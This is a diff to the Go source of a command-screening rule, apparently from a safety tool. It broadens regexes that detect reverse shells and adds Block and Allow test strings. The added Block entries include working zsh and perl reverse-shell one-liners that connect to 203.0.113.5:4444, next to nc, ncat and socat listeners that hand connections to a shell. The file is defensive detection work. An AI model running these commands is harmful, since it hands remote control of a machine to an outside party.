@@ -12,8 +12,8 @@ import (
 // The two halves of a shell handed to a remote peer from inside one
 // interpreter program: a connection, and a command run on what it reads.
 var (
-	peerConnectRe = &lazyregexp.Regexp{Expr: `(socket\.create_connection|socket\.socket|\.connect\s*\(|TCPSocket\.new|require\(\s*['"]net['"]\s*\)|Socket\.new|fsockopen|IO::Socket|/inet/tcp/|/dev/tcp/|net\.Dial|new\s+Socket\s*\()`}
-	peerRunRe     = &lazyregexp.Regexp{Expr: `(subprocess|\bspawn\b|IO\.popen|\bpopen\b|os\.dup2|pty\.spawn|\bsystem\s*\(|\bexec\s*\(|shell_exec|proc_open|/bin/(ba|z|da|k)?sh\b|cmd\.exe|ProcessBuilder|Runtime\.getRuntime)`}
+	peerConnectRe = &lazyregexp.Regexp{Expr: `(socket\.create_connection|socket\.socket|[.:]connect\s*\(|TCPSocket\.new|require\(\s*['"]net['"]\s*\)|Socket\.new|fsockopen|IO::Socket|/inet/tcp/|/dev/tcp/|net\.Dial|new\s+Socket\s*\()`}
+	peerRunRe     = &lazyregexp.Regexp{Expr: `(subprocess|\bspawn\b|IO\.popen|\bpopen\b|os\.dup2|pty\.spawn|\bsystem\s*[($]|\bexec\s*\(|shell_exec|proc_open|/bin/(ba|z|da|k)?sh\b|cmd\.exe|ProcessBuilder|Runtime\.getRuntime)`}
 )
 
 // harmProcessExposed: a program that hands every network connection to a
@@ -27,6 +27,9 @@ var harmProcessExposed = &Rule{
 	Commands: allCommands, exec: checkProcessExposed,
 	Block: []string{
 		`nc -l -p 9001 -e /usr/bin/python3`,
+		`zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
+		`code tunnel --accept-server-license-terms --name devbox`,
+		`perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new("203.0.113.5:4444");STDIN->fdopen($c,"r");$~->fdopen($c,"w");system$_ while<>;'`,
 		`ncat -lk 8000 -c ./handler.sh`,
 		`socat TCP-LISTEN:7000,fork SYSTEM:./report.sh`,
 		`websocketd --port=8080 ./repl.sh`,
@@ -40,6 +43,9 @@ var harmProcessExposed = &Rule{
 	},
 	Allow: []string{
 		`nc -zv example.com 443`,
+		`code tunnel status`,
+		`zsh -c 'zmodload zsh/net/tcp && ztcp -l 8080'`,
+		`ztcp localhost 6379`,
 		`ncat -l 9000 --keep-open`,
 		`socat - TCP:example.com:80`,
 		`websocketd --help`,
